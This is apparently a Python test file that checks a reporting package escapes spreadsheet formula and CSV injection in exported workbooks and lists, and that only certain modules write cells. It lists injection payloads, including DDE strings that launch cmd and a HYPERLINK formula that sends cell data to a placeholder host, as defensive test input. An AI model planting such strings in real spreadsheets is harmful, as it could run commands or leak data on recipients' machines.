"""No name, title or remark becomes a formula, a link or a broken file in a table that leaves."""

import ast
import csv
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

import desk
from desk.archive.folder import Filed, list_csv
from desk.reports.stat_workbook import Graph, Kind, TableSheet, stat_workbook
from desk.reports.workbook import Column, Sheet, workbook_bytes
from desk.stat_table import Head, StatTable

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "==", "=+")
CALLS = (
    "1+1",
    'HYPERLINK("http://x.cn/?"&A1,"点这里")',
    "cmd|' /C calc'!A0",
    'DDE("cmd","/C calc","x")',
)
OTHERS = (
    "http://x.cn/a", "file:///c:/x", "\\\\server\\share", "mailto:a@b.cn", "#REF!", "#单位!A1",
    "{=SUM(A1:A9)}", "<f>1+1</f>", "&amp;=1", "\x00=1", "\x0b甲\x1f", "\u202e=1", "_x003D_1+1",
    "甲" * 40_000,
)  # fmt: skip
HOSTILE = (*(f"{start}{call}" for start in STARTS for call in CALLS), *OTHERS)
WRITERS = {  # where cells are made; all other tables are made through these
    "openpyxl": {
        "reports/workbook_file.py",
        "reports/stat_workbook_file.py",
        "reports/stat_workbook_charts.py",
    },
    "csv.writer": {"reports/plain_csv.py"},
}
READERS = {"importing", "intake", "demo"}


def listed():
    """A list as the lists, registers and score tables are written."""
    columns = [Column(one, 12) for one in HOSTILE]
    return workbook_bytes([Sheet("表", HOSTILE[0], columns, [HOSTILE])])


def counted():
    """A table of statistics with a chart on its cells."""
    heads = (Head("单位"), *(Head(one) for one in HOSTILE[:20]))
    rows = tuple((one, *range(20)) for one in HOSTILE)
    table = StatTable(HOSTILE[0], heads, rows, HOSTILE[1])
    return stat_workbook([TableSheet("表", table)], [Graph(table, Kind.BARS)])


@pytest.mark.parametrize("written", [listed, counted])
def test_a_workbook_holds_texts_and_nothing_that_runs(written):
    data = written()
    cells = [one for page in load_workbook(BytesIO(data)) for row in page.rows for one in row]
    texts = [one for one in cells if isinstance(one.value, str)]
    assert len(texts) > len(HOSTILE)
    assert not [one for one in cells if one.data_type == "f" or one.hyperlink]
    with ZipFile(BytesIO(data)) as package:
        assert not [one for one in package.namelist() if "external" in one.lower()]
        sheets = [package.read(one) for one in package.namelist() if "worksheets/sheet" in one]
    assert not [one for one in sheets if b"<f>" in one or b"<hyperlink" in one]


def test_a_list_for_other_programs_has_no_cell_that_begins_like_a_formula():
    files = [Filed(one, 1, "0" * 64, one) for one in HOSTILE]
    text = list_csv(files).decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    assert len(cells) > len(HOSTILE)
    assert not [one for one in cells if one[:1] in set("=+-@＝＋－＠\t\r\n")]


def modules_that_use(name):
    """Which files of the desk import a writer of tables, or call it."""
    home = Path(desk.__file__).parent
    for path in home.rglob("*.py"):
        where = path.relative_to(home)
        text = path.read_text("utf-8")
        is_asked = where.parts[0] not in READERS and name.split(".")[-1] in text
        if is_asked and _uses(ast.parse(text), name):
            yield where.as_posix()


def _uses(tree, name):
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == name:
            return True
        if isinstance(node, ast.Import) and name in {one.name for one in node.names}:
            return True
        if isinstance(node, ast.Attribute) and ast.unparse(node) == name:
            return True
    return False


@pytest.mark.parametrize("name", WRITERS)
def test_cells_are_made_in_these_files_alone(name):
    assert set(modules_that_use(name)) == WRITERS[name]
